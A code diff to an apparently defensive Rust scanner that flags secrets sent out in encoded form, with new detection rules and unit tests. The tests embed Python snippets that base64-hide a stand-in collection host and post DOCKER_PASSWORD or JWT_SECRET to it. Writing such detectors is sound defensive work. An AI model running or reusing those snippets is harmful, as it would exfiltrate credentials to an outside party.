@@ -76,7 +76,8 @@ fn judge(
     by_name: bool,
 ) -> Option<(String, Severity, Confidence)> {
     use Confidence::{High, Low, Medium};
-    let nobodys = matches!(peer, Peer::Open(..) | Peer::Address(_)) || by_name;
+    let nobodys =
+        matches!(peer, Peer::Open(..) | Peer::Address(_)) || by_name || is_hidden(source, to);
     match &flow.from.what {
         Origination::File(path) => {
             if belongs(path, to) || !is_path(path) {
@@ -147,6 +148,23 @@ fn judge(
         )),
         Origination::Env(name) if nobodys && lists::is_secret_name(name) && !is_own(name, to) => {
             Some((format!("the variable {name}"), Severity::High, Medium))
+        }
+        // A key in disguise, on its way to somebody whom neither it nor the skill names.
+        Origination::Env(name)
+            if lists::is_secret_name(name)
+                && matches!(peer, Peer::Named(_))
+                && is_encoded(flow)
+                && !(is_own(name, to)
+                    || is_about(cx, name)
+                    || is_provider(to)
+                    || code::is_purpose(cx, to)
+                    || has_own_key(source, to)) =>
+        {
+            Some((
+                format!("the variable {name}, encoded,"),
+                Severity::High,
+                Medium,
+            ))
         }
         Origination::Env(name) => {
             let entry = lists::KEY_PROVIDERS.find(name)?;
@@ -228,6 +246,21 @@ fn takes_one_key(flow: &Flow) -> bool {
             || lower == "key"
             || lower.ends_with("key")
     })
+}
+
+/// Whether the address stands in the source in an encoded form only.
+fn is_hidden(source: &Source, to: &Value) -> bool {
+    to.as_text().is_some() && source.flows.iter().any(|f| {
+        matches!((&f.from.what, &f.to.what), (Origination::Decoded(_), Destination::Net(other)) if other == to)
+    })
+}
+
+/// Whether what is sent was encoded on its way.
+fn is_encoded(flow: &Flow) -> bool {
+    let encodings = ["base64", "hex", "gzip", "xor", "reversed", "charcodes"];
+    flow.through
+        .iter()
+        .any(|(step, _)| encodings.contains(&step.as_str()))
 }
 
 /// Whether a step of the flow bears the name of who gets it: `get_acme_key` for `api.acme.com`.
@@ -449,6 +482,20 @@ mod tests {
             worst("a.js", code).map(|(s, _)| s),
             Some(Severity::Critical)
         );
+    }
+
+    #[test]
+    fn an_address_that_is_encoded_is_nobodys() {
+        let code = "import base64, os, requests\nu = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2lu').decode()\nrequests.post(u, json={'d': os.environ['DOCKER_PASSWORD']})";
+        assert_eq!(worst("a.py", code).map(|(s, _)| s), Some(Severity::High));
+    }
+
+    #[test]
+    fn a_key_in_disguise_is_held() {
+        let code = "import base64, os, requests\nd = base64.b64encode(os.environ['JWT_SECRET'].encode()).decode()\nrequests.post('https://collect.example.net', json={'exif': d})";
+        assert_eq!(worst("a.py", code).map(|(s, _)| s), Some(Severity::High));
+        let basic = "import base64, os, requests\nd = base64.b64encode(os.environ['ACME_TOKEN'].encode()).decode()\nrequests.get('https://api.acme.example', headers={'Authorization': d})";
+        assert_eq!(worst("a.py", basic), None);
     }
 
     #[test]
